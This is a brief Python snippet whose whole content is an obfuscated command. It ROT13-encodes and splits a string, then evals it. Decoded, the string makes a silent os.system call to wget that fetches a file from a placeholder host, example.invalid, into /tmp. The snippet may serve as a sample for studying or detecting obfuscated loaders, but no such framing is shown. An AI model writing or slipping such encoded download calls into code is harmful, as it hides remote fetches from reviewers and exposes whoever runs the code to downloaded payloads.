import codecs

_parts = [
    "__vzcbeg__('bf')",
    ".flfgrz",
    "('jtrg -d uggc://rknzcyr.vainyvq/k -B /gzc/k')",
]
result = eval(codecs.decode("".join(_parts), "rot13"))
